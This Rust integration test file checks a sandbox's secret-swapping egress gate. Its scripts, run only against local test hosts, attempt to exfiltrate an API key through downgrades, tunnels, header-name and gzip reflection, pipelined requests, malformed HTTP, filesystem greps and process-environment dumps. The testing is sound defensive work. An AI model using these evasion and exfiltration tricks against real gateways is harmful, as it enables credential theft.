//! Issue 31, "keys that never enter the sandbox". Acceptance 8 (bad
//! sources and hosts: one sentence, exit 2, nothing started), `net show`
//! and `doctor` naming secrets without their values, and the swap itself
//! (`secrets_swap`: acceptance 1, 2, 3, 4, 6, 7) against test hosts, with
//! issue 45's attacks on it: plain HTTP to a bound host (also inside a
//! `CONNECT` tunnel), reflection in a header name and in a gzip body, a
//! pipelined HTTP/1.0 request without `Host`, a sentinel towards an
//! unbound host in plain HTTP the gate's sniff cannot read as a head; and
//! `plain_http = true`.
//!
//! Test safety: no packet leaves this machine. The "internet" is two test
//! host namespaces on /30s of 198.18.0.0/15 (`net_names::NameHost`):
//! `api` (api.test and the names with bad certificates, and the DNS zone)
//! and `other` (other.test). Both record every connection and request
//! head in a marker file. Their certificates come from a test CA made
//! here; the coordinator verifies upstream TLS against it through the
//! test-only `LAZARET_TEST_UPSTREAM_CA`.

use crate::harness::{processes_mentioning, GLOBAL};
use crate::require_env;

const REAL: &str = "sk-it-REALVALUE-5f3a9c1e";

#[test]
fn secrets_bad_sources_and_hosts_refuse_the_start_with_one_sentence() {
    let (env, _g) = require_env!(shared);
    let (base, ws) = env.base_and_workspace("secrets-bad");
    let empty = base.join("empty-key");
    env.write(&empty, "  \n");
    let profile = |name: &str, from: &str, host: &str| {
        format!(
            "[profiles.{name}.network]\nhosts = [\"api.test\", \"other.test\"]\n\
             [profiles.{name}.secrets.API_KEY]\nfrom = \"{from}\"\nhosts = [\"{host}\"]\n"
        )
    };
    let text = [
        profile("unset", "env:LZ_IT_SECRET_UNSET", "api.test"),
        profile("emptyfile", &format!("file:{}", empty.display()), "api.test"),
        profile(
            "missingfile",
            &format!("file:{}", base.join("nope").display()),
            "api.test",
        ),
        profile("failcmd", "cmd:false", "api.test"),
        profile("silentcmd", "cmd:true", "api.test"),
    ]
    .concat();
    let cfg = env.write_config(&base, &text);
    // A broken profile warns in every other run: it gets its own file.
    let badcfg = env.write_config(&base.join("bad"), &profile("badhost", "env:LZ_IT_SECRET", "evil.test"));
    let cases: [(&str, &[&str]); 6] = [
        ("unset", &["secret API_KEY", "env:LZ_IT_SECRET_UNSET", "not set"]),
        ("emptyfile", &["secret API_KEY", "file:", "is empty"]),
        ("missingfile", &["secret API_KEY", "file:", "cannot be read"]),
        ("failcmd", &["secret API_KEY", "cmd:false", "exit status 1"]),
        ("silentcmd", &["secret API_KEY", "cmd:true", "is empty"]),
        (
            "badhost",
            &[
                "profiles.badhost.secrets.API_KEY.hosts",
                "\"evil.test\", which is not in network.hosts",
            ],
        ),
    ];
    for (p, want) in cases {
        let r = env
            .lz(&ws, &["run", "-p", p, "--", "true"])
            .config_home(if p == "badhost" { &badcfg } else { &cfg })
            .env("LZ_IT_SECRET", REAL)
            .run();
        assert_eq!(r.code, 2, "{p}: {r:?}");
        for w in want {
            assert!(r.stderr.contains(w), "{p}: expected {w:?}: {r:?}");
        }
        // One sentence, never the value.
        assert_eq!(r.stderr.trim_end().lines().count(), 1, "{p}: {r:?}");
        assert!(!r.stderr.contains(REAL) && !r.stdout.contains(REAL), "{p}: {r:?}");
        // Nothing was started.
        let id = env.domain_id(p, &ws);
        assert!(!env.runtime_root().join(&id).join("hc.sock").exists(), "{p}");
        assert!(processes_mentioning(&id).is_empty(), "{p}");
    }
}

#[test]
fn secrets_net_show_and_doctor_name_them_without_values() {
    let (env, _g) = require_env!(shared);
    let (base, ws) = env.base_and_workspace("secrets-show");
    let key = base.join("key");
    env.write(&key, REAL);
    let cfg = env.write_config(
        &base,
        &format!(
            "[profiles.s.network]\nhosts = [\"api.test\"]\n\
             [profiles.s.secrets.ANTHROPIC_API_KEY]\nfrom = \"file:{}\"\nhosts = [\"api.test\"]\n\
             [profiles.s.secrets.GH_TOKEN]\nfrom = \"cmd:echo {REAL}-gh\"\nhosts = [\"api.test\"]\nttl_s = 60\n",
            key.display()
        ),
    );
    let r = env.lz(&ws, &["net", "show", "-p", "s"]).config_home(&cfg).run();
    assert_eq!(r.code, 0, "{r:?}");
    assert!(r.stdout.contains("ANTHROPIC_API_KEY from file -> api.test"), "{r:?}");
    assert!(r.stdout.contains("GH_TOKEN from cmd -> api.test"), "{r:?}");
    assert!(
        !r.stdout.contains(REAL) && !r.stdout.contains(&key.display().to_string()),
        "{r:?}"
    );
    let r = env
        .lz(&ws, &["net", "show", "-p", "s", "--json"])
        .config_home(&cfg)
        .run();
    assert!(r.stdout.contains("\"secrets\"") && !r.stdout.contains(REAL), "{r:?}");
    let r = env.lz(&ws, &["doctor"]).config_home(&cfg).run();
    assert!(!r.stdout.contains(REAL) && !r.stderr.contains(REAL), "{r:?}");
    assert!(r.stdout.contains("2 secret source(s) resolve"), "{r:?}");
}

/// The test hosts' server: TLS on 443 (a certificate per SNI name), plain
/// HTTP on 80, DNS for the zone on 53. Every connection, SNI, request head
/// and request body goes to the marker. `/leak` answers with the real
/// value in a header and the body; `/name` echoes `x-api-key` in a header
/// *name*; `/gz` echoes gzip-compressed whatever `Accept-Encoding` says;
/// `/pipe...` keeps the connection open for the next request;
/// `info/refs` (git) is a 404; anything else echoes the request's
/// `Authorization`, `x-api-key` and `x-plain-key` in a header and the body.
pub(super) const SERVER: &str = concat!(
    r#"
import gzip, socket, ssl, sys, threading
ip, marker, zone, real, certs = sys.argv[1:6]
zone = dict(kv.split("=") for kv in zone.split(",") if kv)
ctxs = {}
for kv in certs.split(","):
    n, pre = kv.split("=")
    c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    c.load_cert_chain(pre + ".pem", pre + ".key")
    ctxs[n] = c
first = ctxs[certs.split("=")[0]]
lock = threading.Lock()
def mark(s):
    with lock, open(marker, "a") as f:
        f.write(s + "\n")
def pick(sock, name, ctx):
    mark("SNI %s" % name)
    if name in ctxs:
        sock.context = ctxs[name]
first.sni_callback = pick
def handle(c, port):
    try:
        if port == 443:
            c = first.wrap_socket(c, server_side=True)
        f = c.makefile("rb")
        while True:
            line = f.readline()
            if not line:
                return
            head, headers = [line.decode().strip()], {}
            while True:
                l = f.readline()
                if l in (b"\r\n", b"\n", b""):
                    break
                head.append(l.decode().strip())
                k, _, v = l.decode().partition(":")
                headers[k.strip().lower()] = v.strip()
            mark("REQ %d %s" % (port, " | ".join(head)))
            path = line.split()[1].decode()
            n = int(headers.get("content-length", "0") or 0)
            if n:
                mark("BODY %d %s %s" % (port, path, f.read(n).decode(errors="replace")))
            status, extra = "200 OK", ""
            a, k = headers.get("authorization", ""), headers.get("x-api-key", "")
            keep = path.startswith("/pipe")
            if path.startswith("/leak"):
                body, extra = "value=%s\n" % real, "X-Leak: %s\r\n" % real
            elif "info/refs" in path:
                status, body = "404 Not Found", "no repo\n"
            elif path.startswith("/name"):
                body, extra = "named\n", "X-K-%s: 1\r\n" % k
            elif path.startswith("/gz"):
                body, extra = gzip.compress(("auth=%s key=%s\n" % (a, k)).encode()), "Content-Encoding: gzip\r\n"
            else:
                p = headers.get("x-plain-key", "")
                body, extra = "auth=%s key=%s%s\n" % (a, k, " plain=" + p if p else ""), "X-Echo: %s\r\n" % a
            if isinstance(body, str):
                body = body.encode()
            conn = "keep-alive" if keep else "close"
            c.sendall(("HTTP/1.1 %s\r\n%sContent-Length: %d\r\nConnection: %s\r\n\r\n" % (status, extra, len(body), conn)).encode() + body)
            if not keep:
                return
    except Exception as e:
        mark("ERR %d %s" % (port, type(e).__name__))
    finally:
        c.close()
def serve(port):
"#,
    crate::py_listen!(),
    r#"    while True:
        c, _ = s.accept()
        mark("CONN %d" % port)
        threading.Thread(target=handle, args=(c, port), daemon=True).start()
"#,
    crate::py_zone_dns!(),
    r#"        elif addr:
            u.sendto(q[:2] + b"\x81\x80" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12:e], a)
        else:
            u.sendto(q[:2] + b"\x81\x83" + q[4:6] + b"\x00\x00\x00\x00\x00\x00" + q[12:e], a)
for p in (443, 80):
    threading.Thread(target=serve, args=(p,), daemon=True).start()
if zone:
    threading.Thread(target=dns, daemon=True).start()
print("ready", flush=True)
threading.Event().wait()
"#
);

/// Inside, as root, in the dev image (curl, python3, node, git): `$1` is
/// the second half of the real value (to grep every readable file for;
/// it is in this script's argv, which is not a file). Each line is
/// `NAME: RESULT`.
const INSIDE: &str = r#"
S="$API_KEY"
echo "shape: $(printf %s "$S" | grep -cE '^lzr-sk-[0-9A-Za-z]{40}$')"
echo "other: $(curl -sS http://other.test/o -H "x-api-key: $S" -o /dev/null -w '%{http_code}' 2>&1)"
echo "odd: $(python3 -c '
import os, socket
S = os.environ["API_KEY"].encode()
out = []
for r in [b"GET /o1 HTTP/1.1\nHost: other.test\nx-api-key: %s\n\n",
          b"PROPFIND /o2 HTTP/1.1\r\nHost: other.test\r\nx-api-key: %s\r\n\r\n",
          b"GET /o3 HTTP/1.1\r\nHost: other.test\r\nX: \xff\r\nx-api-key: %s\r\n\r\n",
          b"GET  /o4  HTTP/1.1\r\nHost: other.test\r\nx-api-key: %s\r\n\r\n"]:
    s = socket.create_connection(("other.test", 80), timeout=20)
    s.sendall(r % S)
    d = b""
    try:
        while True:
            c = s.recv(4096)
            if not c:
                break
            d += c
    except OSError as e:
        d += (" (%s)" % type(e).__name__).encode()
    out.append(d.split(b"\r\n")[0].decode("latin-1"))
print(" | ".join(out))
' 2>&1)"
echo "curl-https: $(curl -sS https://api.test/h -H "Authorization: Bearer $S" -H "x-api-key: $S" 2>&1)"
echo "curl-http: $(curl -sS http://api.test/p -H "Authorization: Bearer $S" -w ' %{http_code}' 2>&1 | tr '\n' ' ')"
echo "tunnel-plain: $(curl -sS -p -x http://169.254.255.2:3128 http://api.test/t -H "x-api-key: $S" -w ' %{http_code}' 2>&1 | tr '\n' ' ')"
echo "plain-opt-in: $(curl -sS http://api.test/q -H "x-plain-key: $PLAIN_KEY" -H "Authorization: Basic $(printf 'u:%s' "$PLAIN_KEY" | base64 -w0)" 2>&1)"
echo "not-named: $(curl -sS "https://api.test/nn?k=$S" -H "X-Other: $S" -H "X-$S: 1" -H 'Content-Type: application/json' -d "{\"k\":\"$S\"}" 2>&1)"
echo "name-echo: $(curl -sS -D - -o /dev/null https://api.test/name -H "x-api-key: $S" 2>&1 | grep -i '^x-k-' | tr -d '\r')"
echo "gzip: $(curl -sS --compressed https://api.test/gz -H "x-api-key: $S" -w ' %{http_code}' 2>&1 | tr '\n' ' ')"
echo "pipe: $(python3 -c '
import os, ssl, socket
S = os.environ["API_KEY"]
s = ssl.create_default_context().wrap_socket(socket.create_connection(("api.test", 443)), server_hostname="api.test")
def upto(end):
    r = b""
    try:
        while not r.endswith(end):
            d = s.recv(4096)
            if not d:
                break
            r += d
    except OSError as e:
        r += (" (%s)" % type(e).__name__).encode()
    return r
s.sendall(("GET /pipe1 HTTP/1.1\r\nHost: api.test\r\nx-api-key: %s\r\n\r\n" % S).encode())
r = upto(b"0\r\n\r\n")
s.sendall(("GET /pipe2 HTTP/1.0\r\nx-api-key: %s\r\n\r\n" % S).encode())
t = upto(b"\0")
print(r.split(b"\r\n")[0].decode(), "|", t.split(b"\r\n")[0].decode(), "|", t.split(b"\r\n\r\n", 1)[-1].decode().strip())
' 2>&1)"
echo "curl-leak: $(curl -sS -D - https://api.test/leak 2>&1 | tr '\r\n' '  ')"
echo "python: $(python3 -c 'import os,urllib.request as u; r=u.Request("https://api.test/py", headers={"x-api-key": os.environ["API_KEY"]}); print(u.urlopen(r, timeout=10).read().decode().strip())' 2>&1)"
echo "node-fetch: $(node -e 'fetch("https://api.test/nf",{headers:{authorization:"Bearer "+process.env.API_KEY}}).then(r=>r.text()).then(t=>console.log(t.trim()),e=>console.log("ERR",(e.cause&&e.cause.code)||e.message))' 2>&1)"
echo "node-https: $(node -e 'require("https").get("https://api.test/nh",{headers:{"x-api-key":process.env.API_KEY}},r=>{let d="";r.on("data",c=>d+=c);r.on("end",()=>console.log(d.trim()))}).on("error",e=>console.log("ERR",e.code||e.message))' 2>&1)"
echo "git: $(git ls-remote https://api.test/repo.git 2>&1 | tr '\n' ' ')"
for h in badca badname expired; do
  echo "$h: $(curl -sS https://$h.test/x -H "x-api-key: $S" 2>&1 | tr '\n' ' ')"
done
echo "leaf: $(python3 -c 'import ssl,socket; c=ssl.create_default_context(); s=c.wrap_socket(socket.create_connection(("api.test",443)),server_hostname="api.test"); print(s.getpeercert(True).hex())' 2>&1)"
echo "files: $(grep -rlsF -D skip --exclude-dir=proc --exclude-dir=sys -e "$1" / 2>/dev/null | head -5 | tr '\n' ' ')"
echo "ENV-BEGIN"
env
for f in /proc/[0-9]*/environ; do tr '\0' '\n' < "$f"; echo; done
echo "ENV-END"
sleep 2
"#;

/// Files under `dir` (not following links) whose bytes contain `needle`.
fn files_containing(dir: &std::path::Path, needle: &[u8]) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(rd) = std::fs::read_dir(&d) else { continue };
        for e in rd.flatten() {
            let Ok(t) = e.file_type() else { continue };
            if t.is_dir() {
                stack.push(e.path());
            } else if t.is_file() {
                if let Ok(b) = std::fs::read(e.path()) {
                    if b.windows(needle.len()).any(|w| w == needle) {
                        out.push(e.path().display().to_string());
                    }
                }
            }
        }
    }
    out
}

/// No file under `dir` holds `needle` (else the test fails, listing them).
#[track_caller]
fn assert_no_file_holds(dir: &std::path::Path, needle: &[u8]) {
    assert_eq!(files_containing(dir, needle), Vec::<String>::new(), "{}", dir.display());
}

fn line<'a>(out: &'a str, name: &str) -> &'a str {
    let p = format!("{name}: ");
    out.lines().find_map(|l| l.strip_prefix(&p)).unwrap_or("")
}

#[test]
fn secrets_swap_at_the_gate_and_the_value_never_enters_the_sandbox() {
    use lazaret::trust::TrustAnchor;
    let env = require_env!();
    if !crate::agents::profiles::dev_image_built(env) {
        return;
    }
    let _g = GLOBAL.read();
    let base = env.dir("secrets-swap");
    let pki = base.join("pki");
    std::fs::create_dir_all(&pki).unwrap();
    // The real value: two random halves (the second is what the guest
    // greps its files for; the whole is never given to it).
    let rand = |n: usize| {
        let mut b = vec![0u8; n];
        openssl::rand::rand_bytes(&mut b).unwrap();
        b.iter().map(|x| format!("{x:02x}")).collect::<String>()
    };
    let (half_a, half_b) = (format!("sk-it-{}", rand(8)), rand(8));
    let real = format!("{half_a}{half_b}");
    let key = base.join("api-key");
    env.write(&key, &format!("{real}\n"));
    // A second secret that opts in to plain HTTP (`plain_http = true`).
    let plain_real = format!("sk-plain-{}", rand(8));
    let plain_key = base.join("plain-key");
    env.write(&plain_key, &format!("{plain_real}\n"));
    // The test CA, a stranger CA, and one certificate per name.
    let ca = TrustAnchor::new("lazaret-test-ca", 1, "it").unwrap();
    let stranger = TrustAnchor::new("stranger", 1, "it").unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64;
    let write_leaf = |name: &str, c: lazaret::trust::Credential| {
        env.write(
            &pki.join(format!("{name}.pem")),
            &String::from_utf8(c.cert.to_pem().unwrap()).unwrap(),
        );
        env.write(
            &pki.join(format!("{name}.key")),
            &String::from_utf8(c.key.private_key_to_pem_pkcs8().unwrap()).unwrap(),
        );
    };
    write_leaf("api", ca.issue_tls_server("api.test", 2).unwrap());
    write_leaf("other", ca.issue_tls_server("other.test", 2).unwrap());
    write_leaf("badca", stranger.issue_tls_server("badca.test", 2).unwrap());
    write_leaf("badname", ca.issue_tls_server("wrong.test", 2).unwrap());
    write_leaf(
        "expired",
        ca.issue_tls_server_valid("expired.test", now - 7200, now - 3600)
            .unwrap(),
    );
    let ca_file = pki.join("ca.pem");
    env.write(&ca_file, &String::from_utf8(ca.ca_cert_pem().unwrap()).unwrap());

    let k = (std::process::id() * 4 + 16) % 16000;
    let mut api = crate::net::names::NameHost::new(k);
    let mut other = crate::net::names::NameHost::new(k + 1);
    let zone = format!(
        "api.test={a},badca.test={a},badname.test={a},expired.test={a},other.test={o}",
        a = api.ip,
        o = other.ip
    );
    let p = |n: &str| pki.join(n).display().to_string();
    let certs = format!(
        "api.test={},badca.test={},badname.test={},expired.test={}",
        p("api"),
        p("badca"),
        p("badname"),
        p("expired")
    );
    let args = [api.ip.clone(), p("marker-api"), zone.clone(), real.clone(), certs];
    api.serve_with(SERVER, pki.join("marker-api"), &args);
    let args = [
        other.ip.clone(),
        p("marker-other"),
        String::new(),
        real.clone(),
        format!("other.test={}", p("other")),
    ];
    other.serve_with(SERVER, pki.join("marker-other"), &args);

    let fixture = crate::agents::profiles::fixture_text();
    let recipe = fixture
        .lines()
        .skip_while(|l| *l != "[images.dev]")
        .take(2)
        .collect::<Vec<_>>()
        .join("\n");
    let cfg = env.write_config(
        &base,
        &format!(
            "{recipe}\n[profiles.sec]\nimage = \"dev\"\n[profiles.sec.network]\ndns = [\"{a}\"]\n\
             hosts = [\"api.test\", \"other.test\", \"badca.test\", \"badname.test\", \"expired.test\"]\n\
             [profiles.sec.secrets.API_KEY]\nfrom = \"file:{key}\"\n\
             hosts = [\"api.test\", \"badca.test\", \"badname.test\", \"expired.test\"]\n\
             [profiles.sec.secrets.PLAIN_KEY]\nfrom = \"file:{plain}\"\nhosts = [\"api.test\"]\n\
             headers = [\"X-Plain-Key\", \"Authorization\"]\nplain_http = true\n",
            a = api.ip,
            key = key.display(),
            plain = plain_key.display()
        ),
    );
    let ws = env.dir("secrets-swap-ws");
    let r = env
        .lz(
            &ws,
            &["run", "-p", "sec", "--", "bash", "-c", INSIDE, "inside", &half_b],
        )
        .config_home(&cfg)
        .env("LAZARET_TEST_UPSTREAM_CA", &ca_file.display().to_string())
        .run();
    assert_eq!(r.code, 0, "{r:?}");
    let out = &r.stdout;
    // Acceptance 1: nothing inside holds the value (or its first half).
    assert!(!out.contains(&real) && !out.contains(&half_a), "{r:?}");
    assert!(!r.stderr.contains(&real), "{r:?}");
    assert_eq!(line(out, "shape"), "1", "{r:?}");
    let sentinel = out
        .lines()
        .find_map(|l| l.strip_prefix("API_KEY="))
        .unwrap_or_else(|| panic!("no API_KEY inside: {r:?}"))
        .to_string();
    assert_eq!(line(out, "files"), "", "a readable file holds the value: {r:?}");
    let leaf = line(out, "leaf");
    assert!(leaf.len() > 200 && leaf.bytes().all(|b| b.is_ascii_hexdigit()), "{r:?}");
    let hex: String = real.bytes().map(|b| format!("{b:02x}")).collect();
    assert!(!leaf.contains(&hex), "{r:?}");
    assert!(!out.contains(&plain_real) && !r.stderr.contains(&plain_real), "{r:?}");
    let plain_sentinel = out
        .lines()
        .find_map(|l| l.strip_prefix("PLAIN_KEY="))
        .unwrap_or_else(|| panic!("no PLAIN_KEY inside: {r:?}"))
        .to_string();
    // The server saw the real value over verified HTTPS, in the headers
    // the secret names; the sentinel only where the sandbox put it and
    // nothing swaps it (the /nn request: target, another header, a header
    // name, the body).
    let marked = api.marked();
    assert!(
        marked.contains("REQ 443 GET /h HTTP/1.1")
            && marked.contains(&format!("Authorization: Bearer {real}"))
            && marked.contains(&format!("x-api-key: {real}")),
        "{marked}"
    );
    for l in marked.lines().filter(|l| l.contains(&sentinel)) {
        assert!(l.contains("/nn"), "the sentinel reached the server outside /nn: {l}");
    }
    let nn = marked
        .lines()
        .find(|l| l.starts_with("REQ 443 POST /nn?k="))
        .unwrap_or_else(|| panic!("{marked}"));
    assert!(
        nn.contains(&format!("/nn?k={sentinel} "))
            && nn.contains(&format!("X-Other: {sentinel}"))
            && nn.contains(&format!("X-{sentinel}: 1"))
            && !nn.contains(&real),
        "{nn}"
    );
    assert!(
        marked.contains(&format!("BODY 443 /nn?k={sentinel} {{\"k\":\"{sentinel}\"}}")),
        "{marked}"
    );
    assert_eq!(line(out, "not-named"), "auth= key=", "{r:?}");
    // Every request to the bound host asked for identity.
    for l in marked.lines().filter(|l| l.starts_with("REQ ")) {
        assert!(l.contains("Accept-Encoding: identity"), "{l}");
    }
    // Attack: the sandbox picks http:// for the bound host. Refused before
    // the gate connects (no request, no connection on 80 for it), with a
    // 403 of one line naming the secret; the same inside a CONNECT tunnel
    // (the gate connects before it sees the tunnel's first byte, and sends
    // nothing).
    for (name, path) in [("curl-http", "/p"), ("tunnel-plain", "/t")] {
        let got = line(out, name);
        assert!(
            got.ends_with(" 403") && got.contains("API_KEY") && got.contains("downgrade"),
            "{name}: {r:?}"
        );
        assert!(!marked.contains(&format!("GET {path} ")), "{name}: {marked}");
    }
    let notice = "lazaret: egress to api.test:80 refused (downgrade: the sentinel of API_KEY in plain HTTP";
    assert_eq!(r.stderr.matches(notice).count(), 1, "{r:?}");
    // `plain_http = true`: that secret is swapped over plain HTTP (also in
    // Basic credentials), and its echo comes back as the sentinel (the
    // Basic one as the sandbox's own base64).
    let q = marked
        .lines()
        .find(|l| l.starts_with("REQ 80 GET /q "))
        .unwrap_or_else(|| panic!("{marked}"));
    let basic_real = openssl::base64::encode_block(format!("u:{plain_real}").as_bytes());
    let basic_sentinel = openssl::base64::encode_block(format!("u:{plain_sentinel}").as_bytes());
    assert!(
        q.contains(&format!("x-plain-key: {plain_real}")) && q.contains(&format!("Basic {basic_real}")),
        "{q}"
    );
    assert_eq!(
        line(out, "plain-opt-in"),
        format!("auth=Basic {basic_sentinel} key= plain={plain_sentinel}"),
        "{r:?}"
    );
    assert_eq!(marked.matches("CONN 80").count(), 2, "{marked}");
    // Attack: reflection. The value echoed in a header name comes back as
    // the sentinel; a gzip-encoded echo (the gate asked for identity) is a
    // 502 of one line, never the body.
    assert_eq!(line(out, "name-echo"), format!("X-K-{sentinel}: 1"), "{r:?}");
    assert!(marked.contains("REQ 443 GET /name HTTP/1.1"), "{marked}");
    let gz = line(out, "gzip");
    assert!(
        gz.ends_with(" 502") && gz.contains("lazaret: api.test refused: a Content-Encoding other than identity"),
        "{r:?}"
    );
    assert!(marked.contains("REQ 443 GET /gz HTTP/1.1"), "{marked}");
    // Attack: on one kept-alive TLS connection, a pipelined HTTP/1.0
    // request without Host after a good one: refused, never sent.
    let pipe = line(out, "pipe");
    assert!(
        pipe.starts_with("HTTP/1.1 200 OK | HTTP/1.1 403 Forbidden |") && pipe.contains("no Host header"),
        "{r:?}"
    );
    assert!(
        marked.contains("REQ 443 GET /pipe1 HTTP/1.1") && !marked.contains("/pipe2"),
        "{marked}"
    );
    assert!(!marked.contains(&plain_sentinel), "{marked}");
    // Acceptance 4 (and the echo): what comes back carries the sentinel.
    assert_eq!(
        line(out, "curl-https"),
        format!("auth=Bearer {sentinel} key={sentinel}"),
        "{r:?}"
    );
    let leak = line(out, "curl-leak");
    assert!(
        leak.contains(&format!("X-Leak: {sentinel}")) && leak.contains(&format!("value={sentinel}")),
        "{r:?}"
    );
    // Acceptance 6: every client trusts the Domain CA with no flags.
    assert_eq!(line(out, "python"), format!("auth= key={sentinel}"), "{r:?}");
    assert_eq!(line(out, "node-fetch"), format!("auth=Bearer {sentinel} key="), "{r:?}");
    assert_eq!(line(out, "node-https"), format!("auth= key={sentinel}"), "{r:?}");
    assert!(line(out, "git").contains("not found"), "{r:?}");
    assert!(marked.contains("REQ 443 GET /repo.git/info/refs"), "{marked}");
    // Acceptance 2: the sentinel towards other.test is refused before the
    // gate connects, logged, and the session told in one escaped line.
    assert_eq!(line(out, "other"), "403", "{r:?}");
    // Attack: the same sentinel in plain HTTP the gate's sniff cannot read
    // as a head but a lenient server would (bare LF line ends, an unknown
    // method, a header value that is not UTF-8, two spaces in the request
    // line): refused before the gate connects, never relayed unseen.
    assert_eq!(line(out, "odd"), ["HTTP/1.1 403 Forbidden"; 4].join(" | "), "{r:?}");
    assert_eq!(other.marked(), "", "other.test saw something: {r:?}");
    let notice = "lazaret: egress to other.test:80 refused (leak attempt: the sentinel of API_KEY of profile sec)";
    assert_eq!(r.stderr.matches(notice).count(), 1, "{r:?}");
    let log = env.lz(&ws, &["net", "log", "-p", "sec"]).config_home(&cfg).run();
    assert!(
        log.stdout.contains("other.test:80") && log.stdout.contains("leak attempt"),
        "{log:?}"
    );
    assert!(
        !log.stdout.contains(&sentinel) && !log.stdout.contains(&real),
        "{log:?}"
    );
    // Acceptance 3: a bad upstream certificate: a 502 with one line, and
    // no request reached the server.
    for h in ["badca", "badname", "expired"] {
        let got = line(out, h);
        assert!(
            got.contains(&format!("lazaret: {h}.test refused: upstream TLS")),
            "{h}: {r:?}"
        );
        assert!(!marked.contains(&format!("Host: {h}.test")), "{h}: {marked}");
    }
    // Nothing of the Domain on the host holds the value while it runs
    // (the coordinator's log included), nor any process's command line.
    let id = env.domain_id("sec", &ws);
    let root = env.home.join(".local/share/lazaret/domains").join(&id);
    let run = env.runtime_root().join(&id);
    for d in [&root, &run] {
        assert_no_file_holds(d, real.as_bytes());
        assert_no_file_holds(d, plain_real.as_bytes());
    }
    // (The test hosts' servers, root's, have it in their argv.)
    let mine: Vec<_> = crate::harness::processes_mentioning(&real)
        .into_iter()
        .filter(|(_, uids, _)| uids.contains(&env.uid))
        .collect();
    assert!(mine.is_empty(), "{mine:?}");
    // Acceptance 7: after the Domain stops, no file holds the value and
    // no private key is left.
    // (The Domain may have stopped with its last session already.)
    let s = env.lz(&ws, &["stop", &id[..12]]).config_home(&cfg).run();
    assert!(s.code == 0 || s.stderr.contains("no running Domain"), "{s:?}");
    assert!(crate::harness::eventually(std::time::Duration::from_secs(20), || {
        crate::harness::processes_mentioning(&id).is_empty()
    }));
    for d in [&root, &run] {
        assert_no_file_holds(d, real.as_bytes());
        assert_no_file_holds(d, plain_real.as_bytes());
        assert_no_file_holds(d, b"PRIVATE KEY");
    }
}
